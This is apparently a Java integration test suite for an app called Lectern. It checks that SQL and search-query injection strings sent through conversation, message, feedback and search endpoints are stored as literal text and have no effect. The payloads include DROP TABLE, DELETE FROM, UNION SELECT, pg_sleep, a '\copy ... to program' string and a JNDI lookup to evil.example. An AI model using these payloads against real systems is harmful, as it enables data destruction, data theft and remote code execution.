package dev.lectern.attack;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import dev.lectern.testing.LecternClient;
import dev.lectern.testing.LecternClient.Reply;
import dev.lectern.testing.LecternServer;
import dev.lectern.testing.TestPostgres;
import java.net.URLEncoder;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Words that would be orders if anybody put them together with SQL or with a search engine's query.
class InjectionIT {

    private static final String DATABASE = TestPostgres.freshDatabase();

    private static LecternServer lectern;

    private LecternClient reader;
    private LecternClient bystander;
    private String kept;

    @BeforeAll
    static void start() {
        lectern = LecternServer.start(TestPostgres.jdbcUrl(DATABASE), Map.of()).withPoolsBook();
    }

    @AfterAll
    static void stop() {
        lectern.close();
    }

    @BeforeEach
    void converse() {
        reader = lectern.reader();
        bystander = lectern.reader();
        kept = bystander
                .post("/conversations", "{\"title\": \"Kept\"}")
                .json()
                .at("/id")
                .asText();
    }

    @AfterEach
    void leave() {
        reader.close();
        bystander.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; DROP TABLE conversation CASCADE; --",
                "' OR '1'='1",
                "x' UNION SELECT id, reader FROM conversation --",
                "$$; DELETE FROM message; $$",
                "E'\\'; DELETE FROM message; --",
                "%' ESCAPE '%",
                ":reader ?::uuid ?? {call pg_sleep(60)}",
                "1; SELECT pg_sleep(60) --",
                "\\copy conversation to program 'id'"
            })
    void sql_is_stored_as_the_words_that_it_is_and_does_nothing(String sql) throws Exception {
        String json = JsonNodeFactory.instance.textNode(sql).toString();
        Reply made = reader.post("/conversations", "{\"title\": " + json + "}", "Idempotency-Key", sql);
        assertThat(made.status()).as(made.body()).isEqualTo(201);
        String conversation = "/conversations/" + made.json().at("/id").asText();

        Reply asked = reader.post(
                conversation + "/messages",
                "{\"question\": " + json + ", \"selected_text\": " + json + ", \"page_url\": \"/a'--\"}",
                "Idempotency-Key",
                sql);
        assertThat(asked.status()).as(asked.body()).isEqualTo(200);
        String feedback = "/messages/" + asked.json().at("/id").asText() + "/feedback";
        assertThat(reader.put(feedback, "{\"rating\": \"like\", \"comment\": " + json + "}")
                        .status())
                .isEqualTo(200);
        assertThat(reader.put(feedback, "{\"rating\": " + json + "}").status()).isEqualTo(400);
        assertThat(reader.patch(conversation, "{\"title\": " + json + "}").status())
                .isEqualTo(200);
        assertThat(reader.post("/conversations", "{\"book\": " + json + "}").status())
                .isIn(400, 404, 422);
        assertThat(reader.post("/chat", "{\"query\": " + json + "}").status()).isEqualTo(200);
        assertThat(reader.post("/chat", "{\"query\": \"a\", \"session_id\": " + json + "}")
                        .status())
                .isEqualTo(400);

        JsonNode messages = reader.get(conversation + "/messages").json().at("/items");
        assertThat(reader.get(conversation).json().at("/title").asText()).isEqualTo(sql);
        assertThat(messages.at("/0/content").asText()).isEqualTo(sql);
        assertThat(messages.at("/1/feedback/comment").asText()).isEqualTo(sql);
        assertThat(bystander.get("/conversations").json().at("/items").findValuesAsText("id"))
                .containsExactly(kept);
        assertThat(sleepers()).isZero();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' OR '1'='1",
                "1; SELECT pg_sleep(60) --",
                "*:*",
                "permit~99999",
                "perm*",
                "/.*(.*)*$/",
                "((((((((((",
                "book:* OR [* TO *]",
                "permit^1e99 AND NOT (",
                "\"unclosed",
                "\\",
                "+-&&||!(){}[]^~*?:/",
                "${jndi:ldap://evil.example/a}",
                "%s%n%x",
                "{{7*7}}"
            })
    void a_search_takes_operators_for_words(String text) throws Exception {
        String words = URLEncoder.encode(text, UTF_8);

        Reply found = reader.get("/search?q=" + words);

        assertThat(found.status()).as(found.body()).isEqualTo(200);
        assertThat(found.json().at("/items").size()).isLessThanOrEqualTo(20);
        assertThat(found.body()).doesNotContain("49\"");
        assertThat(reader.get("/search?q=permit&book=" + words).status()).isEqualTo(404);
        assertThat(reader.get("/search?q=permit&limit=" + words).status()).isEqualTo(400);
        assertThat(reader.get("/conversations?cursor=" + words).status()).isEqualTo(400);
        assertThat(sleepers()).isZero();
    }

    private static int sleepers() throws Exception {
        try (Connection connection = TestPostgres.administrator();
                Statement statement = connection.createStatement();
                ResultSet rows = statement.executeQuery("""
                        SELECT count(*) FROM pg_stat_activity
                        WHERE wait_event = 'PgSleep' AND pid <> pg_backend_pid()
                        """)) {
            rows.next();
            return rows.getInt(1);
        }
    }
}
